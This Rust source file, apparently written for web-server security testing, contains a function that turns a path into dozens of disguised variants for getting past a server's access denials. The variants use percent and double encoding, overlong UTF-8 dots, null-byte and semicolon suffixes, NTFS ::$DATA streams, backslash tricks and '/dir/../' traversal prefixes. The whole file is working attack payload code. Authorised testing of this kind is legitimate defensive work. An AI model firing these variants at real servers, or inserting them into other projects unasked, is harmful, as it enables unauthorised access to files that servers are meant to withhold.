//! Spellings of paths by which servers have been made to send what they deny.

/// Every way to write a path, which is given without its first slash, that a tester of web servers would try.
pub fn disguises(name: &str) -> Vec<Vec<u8>> {
    let escaped: String = name
        .bytes()
        .map(|byte| {
            if b"/.-_".contains(&byte) || byte.is_ascii_alphanumeric() {
                char::from(byte).to_string()
            } else {
                format!("%{byte:02X}")
            }
        })
        .collect();
    let all: String =
        name.bytes().map(|byte| if byte == b'/' { "/".to_owned() } else { format!("%{byte:02x}") }).collect();
    let dots = escaped.replace('.', "%2e");
    let twice = escaped.replace('.', "%252e");
    let overlong = escaped.replace('.', "%c0%ae");
    let slashes = escaped.replace('/', "%2f");
    let mut targets: Vec<String> = [&escaped, &all, &dots, &twice, &overlong, &slashes]
        .into_iter()
        .flat_map(|path| {
            [
                "", "/", "/.", "%20", "%20%20", ".", "..", "%2e", "%00", "%00.txt", ";", ";.txt", ";a=b", "?",
                "?x.txt", "%3f.txt", "%23.txt", "/x.txt", "/..", "\\", "%5c", "::$DATA", "~", "%0a", "%0d%0a", "%09",
                "+", "*", "%ff", "%c2%a0",
            ]
            .map(|tail| format!("/{path}{tail}"))
        })
        .collect();
    for before in [
        "/./",
        "//",
        "/dir/../",
        "/%2e/",
        "/dir/%2e%2e/",
        "/dir%2f..%2f",
        "/dir/..%2f",
        "/none/../",
        "/\\",
        "/%5c",
        "/dir\\..\\",
        "/;/",
        "/index.html/../",
        "/run.php/../",
    ] {
        targets.push(format!("{before}{escaped}"));
    }
    targets.into_iter().map(String::into_bytes).collect()
}
